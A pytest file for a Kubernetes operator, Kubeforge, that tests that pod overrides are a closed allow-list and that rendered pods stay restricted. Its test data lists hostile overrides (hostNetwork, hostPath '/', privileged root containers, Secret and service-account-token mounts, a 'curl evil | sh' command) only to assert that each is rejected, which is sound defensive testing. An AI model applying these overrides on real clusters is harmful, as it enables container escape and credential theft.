"""`spec.resources.podOverrides` is an allow-list: hostile overrides are rejected, allowed ones stay restricted.

Issue 13: free-form overrides let anyone who may create Kubeforge objects run any pod (hostNetwork, hostPath /,
privileged, root, a chosen ServiceAccount with its token, another image and command, Secret volumes). The
overrides are now a closed, typed model; tests/cluster/test_api_server.py sends the same hostile overrides to
a real API server.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubeforge import crdgen
from kubeforge.api.v1alpha1 import KINDS, KubeResource
from kubeforge.api.v1alpha1.podrules import (
    RESERVED_ENV_NAMES,
    RESERVED_ENV_PREFIX,
    RESERVED_MOUNT_PATHS,
    RESERVED_VOLUME_NAMES,
    RESERVED_VOLUME_PREFIX,
)
from kubeforge.builders import dataset, evaluation, modeldeployment, rewardmodel, rlhfjob, trainingjob
from kubeforge.builders.naming import MANAGED_BY, POD_ANNOTATIONS_ANNOTATION
from kubeforge.builders.pods import get_container_security_context, get_pod_security_context
from kubeforge.manifests import ManifestError, load, parse
from kubeforge.settings import OperatorSettings, WorkloadPodDefaults
from kubeforge.stage import ResolvedInput, dependencies

REPO = Path(__file__).resolve().parents[2]
OV = "spec.resources.podOverrides"

MINIMAL: dict[str, dict[str, Any]] = {
    "TrainingJob": {"method": "sft", "model": {"uri": "org/model"}, "dataset": {"name": "d"}},
    "RewardModel": {"model": {"uri": "org/model"}, "dataset": {"name": "prefs"}},
    "RLHFJob": {
        "algorithm": "grpo",
        "policy": {"uri": "org/model"},
        "dataset": {"name": "prompts"},
        "reward": {"functions": [{"name": "length", "targetLength": 10}]},
    },
    "Evaluation": {
        "model": {"uri": "org/model"},
        "dataset": {"name": "d", "split": "test"},
        "taskType": "classification",
        "metrics": ["accuracy", "f1"],
    },
    "ModelDeployment": {"model": {"uri": "org/model"}},
}


def with_overrides(kind: str, overrides: dict[str, Any], field: str = "resources") -> dict[str, Any]:
    spec = copy.deepcopy(MINIMAL[kind])
    spec[field] = {"podOverrides": copy.deepcopy(overrides)}
    return {"apiVersion": "kubeforge.io/v1alpha1", "kind": kind, "metadata": {"name": "x"}, "spec": spec}


def _cfg_mount(path: str) -> dict[str, Any]:
    return {"volumes": [{"name": "cfg", "configMap": {"name": "evil"}}],
            "volumeMounts": [{"name": "cfg", "mountPath": path}]}


UNKNOWN = "unknown field"
# (id, kind, spec field holding the Resources, podOverrides, where the error must point, what it must say)
HOSTILE: list[tuple[str, str, str, dict[str, Any], str, str]] = [
    ("pod-security-context-root", "TrainingJob", "resources",
     {"securityContext": {"runAsUser": 0, "runAsNonRoot": False}}, f"{OV}.securityContext", UNKNOWN),
    ("service-account-name", "TrainingJob", "resources",
     {"serviceAccountName": "kubeforge-operator"}, f"{OV}.serviceAccountName", UNKNOWN),
    ("service-account-deprecated", "RewardModel", "resources",
     {"serviceAccount": "kubeforge-operator"}, f"{OV}.serviceAccount", UNKNOWN),
    ("automount-token", "ModelDeployment", "resources",
     {"automountServiceAccountToken": True}, f"{OV}.automountServiceAccountToken", UNKNOWN),
    ("host-network", "ModelDeployment", "resources", {"hostNetwork": True}, f"{OV}.hostNetwork", UNKNOWN),
    ("host-pid", "RLHFJob", "resources", {"hostPID": True}, f"{OV}.hostPID", UNKNOWN),
    ("host-ipc", "Evaluation", "resources", {"hostIPC": True}, f"{OV}.hostIPC", UNKNOWN),
    ("privileged", "TrainingJob", "resources", {"privileged": True}, f"{OV}.privileged", UNKNOWN),
    ("container-privileged", "TrainingJob", "resources",
     {"containers": [{"name": "stage", "securityContext": {"privileged": True, "runAsUser": 0}}]},
     f"{OV}.containers", UNKNOWN),
    ("container-image-command", "ModelDeployment", "resources",
     {"containers": [{"name": "triton", "image": "evil:latest", "command": ["sh", "-c", "id"]}]},
     f"{OV}.containers", UNKNOWN),
    ("image", "ModelDeployment", "conversionResources", {"image": "evil:latest"},
     "spec.conversionResources.podOverrides.image", UNKNOWN),
    ("command", "RLHFJob", "resources", {"command": ["sh", "-c", "curl evil | sh"]}, f"{OV}.command", UNKNOWN),
    ("args", "Evaluation", "resources", {"args": ["--evil"]}, f"{OV}.args", UNKNOWN),
    ("init-containers", "RewardModel", "resources",
     {"initContainers": [{"name": "x", "image": "evil", "securityContext": {"privileged": True}}]},
     f"{OV}.initContainers", UNKNOWN),
    ("node-name", "TrainingJob", "resources", {"nodeName": "control-plane"}, f"{OV}.nodeName", UNKNOWN),
    ("runtime-class", "TrainingJob", "resources", {"runtimeClassName": "unconfined"},
     f"{OV}.runtimeClassName", UNKNOWN),
    ("host-path-volume", "ModelDeployment", "resources",
     {"volumes": [{"name": "host", "hostPath": {"path": "/"}}],
      "volumeMounts": [{"name": "host", "mountPath": "/host"}]}, f"{OV}.volumes[0].hostPath", UNKNOWN),
    ("secret-volume", "TrainingJob", "resources",
     {"volumes": [{"name": "creds", "secret": {"secretName": "kubeforge-operator-token"}}]},
     f"{OV}.volumes[0].secret", UNKNOWN),
    ("csi-volume", "RLHFJob", "resources",
     {"volumes": [{"name": "vault", "csi": {"driver": "secrets-store.csi.k8s.io"}}]},
     f"{OV}.volumes[0].csi", UNKNOWN),
    ("nfs-volume", "Evaluation", "resources",
     {"volumes": [{"name": "n", "nfs": {"server": "10.0.0.1", "path": "/"}}]}, f"{OV}.volumes[0].nfs", UNKNOWN),
    ("projected-sa-token", "TrainingJob", "resources",
     {"volumes": [{"name": "tok", "projected": {"sources": [
         {"serviceAccountToken": {"path": "token", "audience": "vault"}}]}}]},
     f"{OV}.volumes[0].projected.sources[0].serviceAccountToken", UNKNOWN),
    ("projected-secret", "RewardModel", "resources",
     {"volumes": [{"name": "s", "projected": {"sources": [{"secret": {"name": "db-password"}}]}}]},
     f"{OV}.volumes[0].projected.sources[0].secret", UNKNOWN),
    ("env-secret-ref", "ModelDeployment", "resources",
     {"env": [{"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "db-password", "key": "password"}}}]},
     f"{OV}.env[0].valueFrom.secretKeyRef", UNKNOWN),
    ("env-from-secret", "TrainingJob", "resources", {"envFrom": [{"secretRef": {"name": "db-password"}}]},
     f"{OV}.envFrom", UNKNOWN),
    ("mount-propagation", "TrainingJob", "resources",
     {"volumes": [{"name": "s", "emptyDir": {}}],
      "volumeMounts": [{"name": "s", "mountPath": "/data", "mountPropagation": "Bidirectional"}]},
     f"{OV}.volumeMounts[0].mountPropagation", UNKNOWN),
    ("mount-over-stage-config", "TrainingJob", "resources", _cfg_mount("/etc/kubeforge"),
     f"{OV}.volumeMounts[0].mountPath", "mountPath must not be"),
    ("mount-over-dev", "ModelDeployment", "resources", _cfg_mount("/dev/shm"),
     f"{OV}.volumeMounts[0].mountPath", "mountPath must not be"),
    ("shadow-operator-volume", "TrainingJob", "resources", {"volumes": [{"name": "config", "emptyDir": {}}]},
     f"{OV}.volumes[0].name", "volume name is reserved"),
    ("env-shadows-operator", "TrainingJob", "resources", {"env": [{"name": "KUBEFORGE_TEST_HOOKS", "value": "1"}]},
     f"{OV}.env[0].name", "env name is reserved for the operator"),
    ("env-redirects-s3", "ModelDeployment", "conversionResources",
     {"env": [{"name": "AWS_ENDPOINT_URL", "value": "https://evil.example"}]},
     "spec.conversionResources.podOverrides.env[0].name", "env name is reserved for the operator"),
    ("apparmor-unconfined", "TrainingJob", "resources",
     {"annotations": {"container.apparmor.security.beta.kubernetes.io/stage": "unconfined"}},
     f"{OV}.annotations", "annotation keys must not use the reserved prefixes"),
    ("forged-result", "Evaluation", "resources",
     {"annotations": {"kubeforge.io/result": '{"succeeded": true}'}},
     f"{OV}.annotations", "annotation keys must not use the reserved prefixes"),
    ("reserved-label", "ModelDeployment", "resources", {"labels": {"app.kubernetes.io/name": "triton"}},
     f"{OV}.labels", "label keys must not use the reserved prefixes"),
    ("system-priority", "RLHFJob", "resources", {"priorityClassName": "system-node-critical"},
     f"{OV}.priorityClassName", "must not be a system- class"),
]
assert len(HOSTILE) >= 15 and len({h[0] for h in HOSTILE}) == len(HOSTILE)


def _problems(body: dict[str, Any]) -> list[tuple[str, str]]:
    with pytest.raises(ManifestError) as info:
        parse(body, "case")
    out = []
    for line in info.value.problems:
        loc, _, msg = line.removeprefix("case: ").partition(": ")
        out.append((loc, msg))
    return out


@pytest.mark.parametrize(("kind", "field", "overrides", "loc", "msg"), [h[1:] for h in HOSTILE],
                         ids=[h[0] for h in HOSTILE])
def test_hostile_overrides_rejected_offline_with_the_field_named(
    kind: str, field: str, overrides: dict[str, Any], loc: str, msg: str
) -> None:
    problems = _problems(with_overrides(kind, overrides, field))
    assert any(p_loc == loc and msg in p_msg for p_loc, p_msg in problems), problems


def test_hostile_override_count() -> None:
    """Every hostile override tried is rejected (the parametrized test above); the report counts them."""
    rejected = 0
    for _, kind, field, overrides, _, _ in HOSTILE:
        try:
            parse(with_overrides(kind, overrides, field), "case")
        except ManifestError:
            rejected += 1
    assert rejected == len(HOSTILE) >= 15


# Other rules of the allow-list (offline twins of the CRD's CEL rules), not security escalations as such.
OTHER_INVALID: list[tuple[dict[str, Any], str, str]] = [
    ({"volumeMounts": [{"name": "nope", "mountPath": "/data"}]}, OV, "every volumeMounts[].name must be"),
    ({"volumes": [{"name": "v"}]}, f"{OV}.volumes[0]", "a volume needs exactly one of"),
    ({"volumes": [{"name": "v", "emptyDir": {}, "configMap": {"name": "c"}}]}, f"{OV}.volumes[0]",
     "a volume needs exactly one of"),
    ({"env": [{"name": "A", "value": "1", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}}]},
     f"{OV}.env[0]", "set either value or valueFrom, not both"),
    ({"env": [{"name": "A", "valueFrom": {}}]}, f"{OV}.env[0].valueFrom", "valueFrom needs exactly one of"),
    ({"volumes": [{"name": "p", "projected": {"sources": [{}]}}]}, f"{OV}.volumes[0].projected.sources[0]",
     "a projected source needs exactly one of"),
    ({"volumes": [{"name": "p", "projected": {"sources": [{"downwardAPI": {"items": [{"path": "x"}]}}]}}]},
     f"{OV}.volumes[0].projected.sources[0].downwardAPI.items[0]", "a downwardAPI item needs exactly one of"),
    ({"annotations": {"bad key!": "x"}}, f"{OV}.annotations", "annotation keys must be qualified names"),
    ({"labels": {"-bad": "x"}}, f"{OV}.labels", "label keys must be qualified names"),
    ({"labels": {"team": "not a label value"}}, f"{OV}.labels.team", "should match pattern"),
    ({"volumes": [{"name": "s", "emptyDir": {}}], "volumeMounts": [{"name": "s", "mountPath": "/data/../etc"}]},
     f"{OV}.volumeMounts[0].mountPath", "should match pattern"),
    ({"volumes": [{"name": "s", "emptyDir": {}}], "volumeMounts": [{"name": "s", "mountPath": "/etc"}]},
     f"{OV}.volumeMounts[0].mountPath", "mountPath must not be"),
    ({"volumes": [{"name": "pvc-corpus", "emptyDir": {}}]}, f"{OV}.volumes[0].name", "volume name is reserved"),
    ({"env": [{"name": "A", "value": "1"}, {"name": "A", "value": "2"}]}, f"{OV}.env", "duplicate names"),
    ({"topologySpreadConstraints": [{"maxSkew": 0, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"}]},
     f"{OV}.topologySpreadConstraints[0].maxSkew", "greater than or equal to 1"),
    ({"affinity": {"nodeAffinty": {}}}, f"{OV}.affinity.nodeAffinty", UNKNOWN),
]


@pytest.mark.parametrize(("overrides", "loc", "msg"), OTHER_INVALID, ids=[o[2][:40] for o in OTHER_INVALID])
def test_other_invalid_overrides(overrides: dict[str, Any], loc: str, msg: str) -> None:
    problems = _problems(with_overrides("TrainingJob", overrides))
    assert any(p_loc == loc and msg in p_msg for p_loc, p_msg in problems), problems


def _pod_overrides_schema(kind: str = "TrainingJob", field: str = "resources") -> dict[str, Any]:
    schema = crdgen.crd(KINDS[kind])["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    return dict(schema["properties"]["spec"]["properties"][field]["properties"]["podOverrides"])


ALLOWED_FIELDS = {
    "nodeSelector", "tolerations", "affinity", "topologySpreadConstraints", "priorityClassName", "env", "volumes",
    "volumeMounts", "annotations", "labels",
}


def test_crd_pod_overrides_is_a_closed_allow_list() -> None:
    for kind, model in KINDS.items():
        spec = crdgen.crd(model)["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"]
        for field in ("resources", "conversionResources"):
            if field not in spec["properties"]:
                continue
            ov = _pod_overrides_schema(kind, field)
            assert "x-kubernetes-preserve-unknown-fields" not in ov, f"{kind}.{field}: must be closed"
            assert set(ov["properties"]) == ALLOWED_FIELDS
    ov = _pod_overrides_schema()
    volume = ov["properties"]["volumes"]["items"]
    assert set(volume["properties"]) == {"name", "configMap", "emptyDir", "persistentVolumeClaim", "projected"}
    sources = volume["properties"]["projected"]["properties"]["sources"]["items"]
    assert set(sources["properties"]) == {"configMap", "downwardAPI"}
    env = ov["properties"]["env"]["items"]
    assert set(env["properties"]["valueFrom"]["properties"]) == {"configMapKeyRef", "fieldRef", "resourceFieldRef"}
    assert set(ov["properties"]["volumeMounts"]["items"]["properties"]) == {"name", "mountPath", "subPath",
                                                                           "readOnly"}
    assert ov["properties"]["env"]["x-kubernetes-list-type"] == "map"
    # Only the scheduling parts that cannot raise privileges pass through as written.
    preserved = []

    def walk(node: Any, path: str) -> None:
        if isinstance(node, dict):
            if node.get("x-kubernetes-preserve-unknown-fields"):
                preserved.append(path)
            for key, value in (node.get("properties") or {}).items():
                walk(value, f"{path}.{key}")
            if "items" in node:
                walk(node["items"], f"{path}[]")

    walk(ov, "podOverrides")
    assert sorted(preserved) == sorted([
        "podOverrides.affinity.nodeAffinity", "podOverrides.affinity.podAffinity",
        "podOverrides.affinity.podAntiAffinity", "podOverrides.topologySpreadConstraints[].labelSelector",
    ])


def test_every_pod_overrides_cel_rule_has_an_offline_twin() -> None:
    """Each CEL message under podOverrides (and priorityClassName) is also raised by the pydantic models."""
    messages: set[str] = set()

    def collect(node: Any) -> None:
        if isinstance(node, dict):
            messages.update(r["message"] for r in node.get("x-kubernetes-validations", []))
            for value in node.values():
                collect(value)
        elif isinstance(node, list):
            for value in node:
                collect(value)

    collect(_pod_overrides_schema())
    offline = [msg for *_, msg in HOSTILE] + [msg for *_, msg in OTHER_INVALID]
    for message in messages:
        assert any(o in message for o in offline if o != UNKNOWN), f"CEL rule {message!r} has no offline case"


# --------------------------------------------------------------------------- the pods the builders render

# The most permissive overrides the API accepts: every allowed field, every allowed volume and env source.
PERMISSIVE: dict[str, Any] = {
    "nodeSelector": {"pool": "ml", "topology.kubernetes.io/zone": "zone-a"},
    "tolerations": [{"key": "dedicated", "operator": "Equal", "value": "ml", "effect": "NoSchedule"},
                    {"operator": "Exists"}],
    "affinity": {
        "nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
            {"matchExpressions": [{"key": "pool", "operator": "In", "values": ["ml"]}]}]}},
        "podAntiAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": [{"weight": 50, "podAffinityTerm": {
            "topologyKey": "kubernetes.io/hostname", "labelSelector": {"matchLabels": {"team": "nlp"}}}}]},
    },
    "topologySpreadConstraints": [{"maxSkew": 1, "topologyKey": "topology.kubernetes.io/zone",
                                   "whenUnsatisfiable": "ScheduleAnyway",
                                   "labelSelector": {"matchLabels": {"team": "nlp"}}}],
    "priorityClassName": "ml-batch",
    "env": [
        {"name": "HF_HUB_OFFLINE", "value": "1"},
        {"name": "HTTPS_PROXY", "valueFrom": {"configMapKeyRef": {"name": "proxy", "key": "https"}}},
        {"name": "POD_IP", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}},
        {"name": "MEMORY_MB", "valueFrom": {"resourceFieldRef": {"resource": "limits.memory", "divisor": "1Mi"}}},
    ],
    "volumes": [
        {"name": "team-config", "configMap": {"name": "team-config", "items": [{"key": "a", "path": "a.json"}],
                                              "defaultMode": 0o444}},
        {"name": "scratch", "emptyDir": {"medium": "Memory", "sizeLimit": "2Gi"}},
        {"name": "hf-cache", "persistentVolumeClaim": {"claimName": "hf-cache", "readOnly": True}},
        {"name": "bundle", "projected": {"sources": [
            {"configMap": {"name": "ca-bundle"}},
            {"downwardAPI": {"items": [{"path": "labels", "fieldRef": {"fieldPath": "metadata.labels"}},
                                       {"path": "cpu", "resourceFieldRef": {"resource": "limits.cpu"}}]}},
        ]}},
    ],
    "volumeMounts": [
        {"name": "team-config", "mountPath": "/etc/team", "readOnly": True},
        {"name": "scratch", "mountPath": "/scratch"},
        {"name": "hf-cache", "mountPath": "/cache/hf", "subPath": "models", "readOnly": True},
        {"name": "bundle", "mountPath": "/var/run/bundle"},
    ],
    "annotations": {"example.com/cost-center": "nlp", "sidecar.istio.io/inject": "false"},
    "labels": {"team": "nlp", "example.com/tier": "batch"},
}
ADMIN_DEFAULTS = WorkloadPodDefaults.model_validate({
    "nodeSelector": {"pool": "default-pool", "node.example.com/class": "gpu"},
    "tolerations": [{"key": "kubeforge.example.com/workloads", "operator": "Exists", "effect": "NoSchedule"}],
    "annotations": {"cluster-autoscaler.kubernetes.io/safe-to-evict": "false", "example.com/cost-center": "admin"},
})
SETTINGS = OperatorSettings(workload_pod_defaults=ADMIN_DEFAULTS)
BUILDERS = {
    "Dataset": dataset.get_children,
    "TrainingJob": trainingjob.get_children,
    "RewardModel": rewardmodel.get_children,
    "RLHFJob": rlhfjob.get_children,
    "Evaluation": evaluation.get_children,
    "ModelDeployment": modeldeployment.get_conversion_children,
}
# What a pod spec rendered by the operator may contain, at most.
POD_KEYS = {"restartPolicy", "subdomain", "nodeSelector", "tolerations", "affinity", "topologySpreadConstraints",
            "priorityClassName", "containers", "volumes", "automountServiceAccountToken", "securityContext"}
# downwardAPI: the stage config volume the operator renders itself (the pod's own annotations, nothing else).
SAFE_VOLUMES = {"configMap", "downwardAPI", "emptyDir", "persistentVolumeClaim", "projected"}
IMAGES = {SETTINGS.trainer_image, SETTINGS.serving_image, SETTINGS.triton_image}


def _inputs(resource: KubeResource) -> dict[str, ResolvedInput]:
    out: dict[str, ResolvedInput] = {}
    for dep in dependencies(resource):
        if dep.key == "gate":
            continue
        uri = f"pvc://kubeforge-artifacts/{dep.namespace}/{dep.kind.lower()}/{dep.name}"
        out[dep.key] = ResolvedInput(kind=dep.kind, name=dep.name, uri=uri, digest=f"sha256:{dep.name}")
    return out


def _permissive_pipeline() -> list[KubeResource]:
    """The example pipeline, every Resources of every object carrying PERMISSIVE (Datasets have none)."""
    out = []
    for res in load([REPO / "examples" / "pipeline"]):
        body = res.to_wire()
        body["metadata"] = {**body["metadata"], "namespace": "ml", "uid": f"uid-{res.name}", "generation": 2}
        for attr, alias in (("resources", "resources"), ("conversion_resources", "conversionResources")):
            if hasattr(res.spec, attr):  # type: ignore[attr-defined]
                body["spec"].setdefault(alias, {})["podOverrides"] = copy.deepcopy(PERMISSIVE)
        out.append(KINDS[res.kind].model_validate(body))
    return out


def _pods(resources: list[KubeResource], settings: OperatorSettings) -> list[tuple[str, dict[str, Any]]]:
    """(name, pod template) of every Job and Deployment the builders render for these objects."""
    pods = []
    for res in resources:
        children = BUILDERS[res.kind](res, _inputs(res), settings)  # type: ignore[operator]
        if res.kind == "ModelDeployment":
            children += modeldeployment.get_serving_children(
                res, settings, stable_version="g1", stable_repository="pvc://kubeforge-artifacts/ml/md/g1",  # type: ignore[arg-type]
                canary_version="g2", canary_repository="s3://models/chat/g2",
            )
        for child in children:
            if child["kind"] in ("Job", "Deployment"):
                pods.append((f"{child['kind']}/{child['metadata']['name']}", child["spec"]["template"]))
    return pods


def restricted_problems(template: dict[str, Any]) -> list[str]:
    """Pod Security `restricted` (every check a static pod spec can fail) plus Kubeforge's own stricter rules."""
    pod = template["spec"]
    out = [f"pod key {k}" for k in set(pod) - POD_KEYS]
    if pod.get("automountServiceAccountToken") is not False:
        out.append("automountServiceAccountToken must be false")
    for key in ("hostNetwork", "hostPID", "hostIPC", "hostUsers", "serviceAccountName", "serviceAccount",
                "nodeName", "runtimeClassName", "shareProcessNamespace"):
        if key in pod:
            out.append(f"pod sets {key}")
    psc = pod.get("securityContext") or {}
    if psc != get_pod_security_context():
        out.append(f"pod securityContext is not the operator's: {psc}")
    if psc.get("runAsNonRoot") is not True or psc.get("runAsUser") in (0, None):
        out.append("pod must run as non-root")
    if (psc.get("seccompProfile") or {}).get("type") != "RuntimeDefault":
        out.append("pod seccompProfile must be RuntimeDefault")
    for vol in pod.get("volumes", []):
        kinds = set(vol) - {"name"}
        if not kinds <= SAFE_VOLUMES:
            out.append(f"volume {vol['name']} uses {kinds - SAFE_VOLUMES}")
        for src in (vol.get("projected") or {}).get("sources", []):
            if set(src) - {"configMap", "downwardAPI"}:
                out.append(f"projected volume {vol['name']} has {set(src)}")
    containers = pod.get("containers", [])
    if len(containers) != 1 or "initContainers" in pod or "ephemeralContainers" in pod:
        out.append("exactly one container, no init or ephemeral containers")
    for c in containers:
        sc = c.get("securityContext") or {}
        if sc != get_container_security_context():
            out.append(f"{c['name']}: securityContext is not the operator's: {sc}")
        if sc.get("privileged"):
            out.append(f"{c['name']}: privileged")
        if sc.get("allowPrivilegeEscalation") is not False:
            out.append(f"{c['name']}: allowPrivilegeEscalation must be false")
        caps = sc.get("capabilities") or {}
        if caps.get("drop") != ["ALL"] or caps.get("add"):
            out.append(f"{c['name']}: capabilities must drop ALL and add nothing")
        if sc.get("runAsUser") == 0 or not (sc.get("runAsNonRoot") or psc.get("runAsNonRoot")):
            out.append(f"{c['name']}: must run as non-root")
        if (sc.get("seccompProfile") or psc.get("seccompProfile") or {}).get("type") != "RuntimeDefault":
            out.append(f"{c['name']}: seccompProfile must be RuntimeDefault")
        if c.get("image") not in IMAGES:
            out.append(f"{c['name']}: image {c.get('image')} is not one of the operator's")
        if any(p.get("hostPort") for p in c.get("ports", [])):
            out.append(f"{c['name']}: hostPort")
        if "envFrom" in c:
            out.append(f"{c['name']}: envFrom")
        for env in c.get("env", []):
            ref = (env.get("valueFrom") or {}).get("secretKeyRef")
            if ref is not None and not env["name"].startswith("AWS_"):
                out.append(f"{c['name']}: env {env['name']} reads a Secret")
        for mount in c.get("volumeMounts", []):
            if "mountPropagation" in mount or "subPathExpr" in mount:
                out.append(f"{c['name']}: mount {mount['mountPath']} sets propagation or subPathExpr")
    meta = template.get("metadata") or {}
    return out + [f"annotation {k}" for k in meta.get("annotations", {}) if "apparmor" in k or "seccomp" in k]


def test_every_kind_with_the_most_permissive_overrides_stays_restricted() -> None:
    resources = _permissive_pipeline()
    assert {r.kind for r in resources} == set(KINDS)
    pods = _pods(resources, SETTINGS)
    assert len(pods) == 11  # 9 Jobs (8 stages and the conversion) + the Triton stable and canary Deployments
    for name, template in pods:
        assert restricted_problems(template) == [], name


def test_permissive_overrides_are_applied() -> None:
    for name, template in _pods(_permissive_pipeline(), SETTINGS):
        pod, meta = template["spec"], template["metadata"]
        (c,) = pod["containers"]
        if name.startswith("Job/corpus") or name.startswith("Job/instructions") or name.startswith("Job/preferences"):
            # Datasets have no resources: only the chart's defaults apply.
            assert pod["nodeSelector"] == ADMIN_DEFAULTS.node_selector, name
            assert meta["annotations"]["example.com/cost-center"] == "admin"
            assert "team" not in meta["labels"]
            continue
        env = {e["name"]: e for e in c["env"]}
        assert {"HF_HUB_OFFLINE", "HTTPS_PROXY", "POD_IP", "MEMORY_MB", "HOME"} <= set(env), name
        assert env["HTTPS_PROXY"]["valueFrom"] == {"configMapKeyRef": {"name": "proxy", "key": "https"}}
        assert {v["name"] for v in pod["volumes"]} >= {"team-config", "scratch", "hf-cache", "bundle", "tmp"}
        mounts = {m["mountPath"]: m for m in c["volumeMounts"]}
        assert mounts["/cache/hf"] == {"name": "hf-cache", "mountPath": "/cache/hf", "subPath": "models",
                                       "readOnly": True}
        # The object's nodeSelector wins over the chart's default on a shared key; both otherwise apply.
        assert pod["nodeSelector"]["pool"] == "ml" and pod["nodeSelector"]["node.example.com/class"] == "gpu"
        keys = [t.get("key") for t in pod["tolerations"]]
        assert {"dedicated", None, "kubeforge.example.com/workloads"} <= set(keys), name
        assert pod["affinity"] == PERMISSIVE["affinity"]
        assert pod["topologySpreadConstraints"] == PERMISSIVE["topologySpreadConstraints"]
        assert pod["priorityClassName"] == "ml-batch"
        assert meta["labels"]["team"] == "nlp" and meta["labels"]["app.kubernetes.io/managed-by"] == (
            MANAGED_BY)
        assert meta["annotations"]["example.com/cost-center"] == "nlp"  # the object's wins over the default
        assert meta["annotations"]["cluster-autoscaler.kubernetes.io/safe-to-evict"] == "false"


def test_operator_names_are_reserved_at_admission() -> None:
    """Every env name, volume name and mount path the operator uses is one the API server refuses to users."""
    settings = OperatorSettings()
    resources = _permissive_pipeline()
    for md in [r for r in resources if r.kind == "ModelDeployment"]:
        body = md.to_wire()
        body["spec"]["output"] = {"s3Secret": {"name": "s3"}, "s3Endpoint": "https://minio"}
        resources.append(KINDS["ModelDeployment"].model_validate(body))
    seen_env = set()
    for name, template in _pods(resources, settings):
        pod = template["spec"]
        (c,) = pod["containers"]
        user_env = {e["name"] for e in PERMISSIVE["env"]}
        for env in c["env"]:
            if env["name"] in user_env:
                continue
            seen_env.add(env["name"])
            assert env["name"].startswith(RESERVED_ENV_PREFIX) or env["name"] in RESERVED_ENV_NAMES, (
                name, env["name"])
        for vol in pod["volumes"]:
            if vol["name"] in {v["name"] for v in PERMISSIVE["volumes"]}:
                continue
            assert vol["name"] in RESERVED_VOLUME_NAMES or vol["name"].startswith(RESERVED_VOLUME_PREFIX), vol
        for mount in c["volumeMounts"]:
            if mount["mountPath"] in {m["mountPath"] for m in PERMISSIVE["volumeMounts"]}:
                continue
            assert any(mount["mountPath"] == p or mount["mountPath"].startswith(p + "/")
                       for p in RESERVED_MOUNT_PATHS), mount
    assert {"HOME", "AWS_ACCESS_KEY_ID", "AWS_ENDPOINT_URL", "KUBEFORGE_PVC_ROOT", "NODE_RANK"} <= seen_env


def test_store_mount_collision_is_refused_at_render() -> None:
    """The artifact store's mount path depends on the chart, so only the builders can catch a user mount on it."""
    tj = _permissive_pipeline()[3]
    assert tj.kind == "TrainingJob"
    body = tj.to_wire()
    ov = body["spec"]["resources"]["podOverrides"]
    ov["volumeMounts"].append({"name": "scratch", "mountPath": "/var/lib/kubeforge"})
    settings = OperatorSettings(store_root="/var/lib/kubeforge/store")
    with pytest.raises(ValueError, match=r"podOverrides\.volumeMounts: /var/lib/kubeforge overlaps"):
        trainingjob.get_children(KINDS["TrainingJob"].model_validate(body), _inputs(tj), settings)  # type: ignore[arg-type]


@pytest.mark.parametrize("key", ["kubeforge.io/result", "container.apparmor.security.beta.kubernetes.io/stage",
                                 "seccomp.security.alpha.kubernetes.io/pod", "app.kubernetes.io/name"])
def test_pod_annotations_annotation_refuses_reserved_keys(key: str) -> None:
    """`kubeforge.io/pod-annotations` is no back door around the allow-list (except with the test hooks on)."""
    tj = _permissive_pipeline()[3]
    body = tj.to_wire()
    body["metadata"]["annotations"] = {POD_ANNOTATIONS_ANNOTATION: json.dumps({key: "unconfined"})}
    obj = KINDS["TrainingJob"].model_validate(body)
    with pytest.raises(ValueError, match="reserved"):
        trainingjob.get_children(obj, _inputs(obj), OperatorSettings())  # type: ignore[arg-type]
    job = trainingjob.get_children(obj, _inputs(obj), OperatorSettings(test_hooks=True))[-1]  # type: ignore[arg-type]
    assert job["spec"]["template"]["metadata"]["annotations"][key] == "unconfined"


def test_workload_pod_defaults_from_the_chart_env() -> None:
    env = {"KUBEFORGE_WORKLOAD_POD_DEFAULTS": json.dumps(ADMIN_DEFAULTS.model_dump(by_alias=True, mode="json"))}
    assert OperatorSettings.from_env(env).workload_pod_defaults == ADMIN_DEFAULTS
    empty = {"KUBEFORGE_WORKLOAD_POD_DEFAULTS": json.dumps({"nodeSelector": {}, "tolerations": [], "annotations": {}})}
    assert OperatorSettings.from_env(empty).workload_pod_defaults == WorkloadPodDefaults()
    with pytest.raises(ValueError, match="securityContext"):
        OperatorSettings.from_env({"KUBEFORGE_WORKLOAD_POD_DEFAULTS": '{"securityContext": {}}'})


def test_no_overrides_no_change() -> None:
    """Objects without podOverrides render exactly as before (the golden files pin that too)."""
    plain = OperatorSettings()
    for res in load([REPO / "examples" / "pipeline"]):
        assert all(restricted_problems(t) == [] for _, t in _pods([res], plain)), res.name
    assert yaml.safe_dump(_pods(load([REPO / "examples" / "pipeline"]), plain))


def test_restricted_checker_catches_what_free_form_overrides_allowed() -> None:
    """The pod the issue reported (hostNetwork, hostPath /, privileged, root, ...) fails every matching check."""
    _, template = _pods(_permissive_pipeline()[3:4], SETTINGS)[0]
    bad = copy.deepcopy(template)
    pod = bad["spec"]
    pod.update(hostNetwork=True, serviceAccountName="kubeforge-operator", automountServiceAccountToken=True)
    pod["securityContext"]["runAsUser"] = 0
    pod["volumes"] += [{"name": "host", "hostPath": {"path": "/"}}, {"name": "s", "secret": {"secretName": "x"}}]
    (c,) = pod["containers"]
    c.update(image="evil:latest", securityContext={"privileged": True})
    problems = " | ".join(restricted_problems(bad))
    for expected in ("hostNetwork", "serviceAccountName", "automountServiceAccountToken", "non-root", "hostPath",
                     "secret", "privileged", "image evil:latest", "capabilities", "allowPrivilegeEscalation"):
        assert expected in problems, expected
